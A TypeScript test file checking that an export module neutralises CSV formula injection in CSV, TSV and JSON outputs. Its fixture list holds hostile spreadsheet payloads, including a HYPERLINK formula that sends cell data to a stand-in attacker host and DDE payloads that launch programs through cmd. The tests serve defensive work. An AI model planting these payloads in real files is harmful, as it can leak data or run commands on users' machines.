// Exports are safe to open in a spreadsheet: CSV export and TSV/CSV copy neutralise formula cells
// (OWASP CSV injection: = + - @ tab CR), with a switch to turn it off; JSON export is unchanged.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { copyAsText, neutralizeFormula, writeAnswer } from '../../common/src/results/export';
import type { CellValue, ResultColumn } from '../../common/src/results/shape';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1)', '\t=1', '\r=1', '=cmd|\' /C notepad\'!A1'];
const INERT = /^[=+\-@\t\r]/;

test('neutralizeFormula prefixes a quote to = + - @ tab CR, and nothing else', () => {
  for (const h of HOSTILE) assert.equal(neutralizeFormula(h), `'${h}`);
  for (const ok of ['SEA', '', ' =1', "'=1", '1=1', 'a@b']) assert.equal(neutralizeFormula(ok), ok);
});

test('CSV export: every text cell and column name opens inert; numbers stay numbers; JSON unchanged', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'tsq-csvinj-'));
  try {
    const names = ['=name', 'n'];
    const pages: CellValue[][][] = [HOSTILE.map((h, i) => [h, -i - 1])];
    const csv = join(dir, 'a.csv');
    await writeAnswer(csv, 'csv', names, pages);
    const records = parse(readFileSync(csv, 'utf8')) as string[][];
    for (const r of records) assert.doesNotMatch(r[0]!, INERT, r[0]);
    assert.deepEqual(records.slice(1).map((r) => r[0]), HOSTILE.map((h) => `'${h}`));
    assert.deepEqual(records.slice(1).map((r) => r[1]), HOSTILE.map((_, i) => String(-i - 1)));
    const off = join(dir, 'off.csv');
    await writeAnswer(off, 'csv', names, pages, { csvInjectionProtection: false });
    assert.deepEqual((parse(readFileSync(off, 'utf8')) as string[][]).slice(1).map((r) => r[0]), HOSTILE);
    const json = join(dir, 'a.json');
    await writeAnswer(json, 'json', names, pages);
    assert.deepEqual((JSON.parse(readFileSync(json, 'utf8')) as Record<string, unknown>[]).map((o) => o['=name']), HOSTILE);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('copy as TSV and CSV neutralises; JSON copy and the switch off do not', () => {
  const cols: ResultColumn[] = [{ name: '@who', role: 'attribute', dataType: 'VARCHAR' }, { name: 'n', role: 'measure', dataType: 'INT64' }];
  const rows: CellValue[][] = HOSTILE.map((h) => [h, -5]);
  for (const format of ['tsv', 'csv'] as const) {
    const records = parse(copyAsText(format, cols, rows), { delimiter: format === 'tsv' ? '\t' : ',', relax_quotes: true }) as string[][];
    for (const r of records) assert.doesNotMatch(r[0]!, INERT, `${format}: ${r[0]}`);
    assert.equal(records[1]![1], '-5');
    assert.equal(copyAsText(format, [cols[0]!], [[HOSTILE[0]!]]), `'${HOSTILE[0]}`);
    assert.equal(copyAsText(format, [cols[0]!], [[HOSTILE[0]!]], { csvInjectionProtection: false }), HOSTILE[0]);
  }
  assert.deepEqual((JSON.parse(copyAsText('json', cols, rows)) as Record<string, unknown>[]).map((o) => o['@who']), HOSTILE);
});
